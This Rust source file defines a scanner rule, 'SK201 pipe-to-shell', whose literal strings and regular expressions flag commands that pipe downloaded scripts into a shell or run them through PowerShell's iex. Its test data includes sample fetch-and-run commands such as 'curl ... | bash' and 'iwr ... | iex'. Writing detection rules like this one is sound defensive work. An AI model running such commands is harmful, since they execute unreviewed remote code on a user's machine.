use crate::diagnostics::Severity;
use crate::rules::any;
use crate::rules::{Confidence, Family, Matcher, Rule};

pub(crate) const RULE: Rule = Rule {
    id: "SK201",
    name: "pipe-to-shell",
    family: Family::PermissionEscalation,
    severity: Severity::Error,
    confidence: Confidence::Medium,
    message: "runs a script straight from the network",
    why: "Nobody has read what will run, and it may be another script tomorrow.",
    fix: "download, read, then run; or name a package of a package manager",
    code_counts: false,
    matcher: Matcher::Raw {
        literals: &[
            "| sh",
            "|sh",
            "| bash",
            "|bash",
            "| sudo",
            "| zsh",
            "|zsh",
            "<(curl",
            "<(wget",
            "$(curl",
            "$(wget",
            "`curl",
            "iex",
            "invoke-expression",
            "| python",
            "|python",
            "| node",
            "| perl",
        ],
        pattern: concat!(
            r"(?i)\b(?:curl|wget|fetch)\b[^\n|]{0,200}\|\s*(?:sudo\s+(?:-\w+\s+)*)?(?:env\s+)?(?:ba|z|da|k",
            r"|c)?sh\b",
            r"|\b(?:curl|wget)\b[^\n|]{0,200}\|\s*(?:sudo\s+)?(?:python[23]?|node|perl|ruby|php)\b",
            r"|\b(?:ba|z)?sh\s+(?:-c\s+)?['\x22]?[<$]\(\s*(?:curl|wget)",
            r"|\beval\s+['\x22]?\$\(\s*(?:curl|wget)",
            r"|(?:iex|invoke-expression)\b[^\n]{0,80}(?:downloadstring|iwr|invoke-webrequest|net\.webclient)",
            r"|(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b[^\n|]{0,160}\|\s*(?:iex|invoke-expression)",
        ),
        keep: any,
    },
    hits: &["curl -fsSL https://x.y/i.sh | bash", "bash <(curl -s http://x.y)", "iwr https://x.y | iex"],
    misses: &["curl https://x.y/data.json | jq .", "cat list | sh_count"],
};
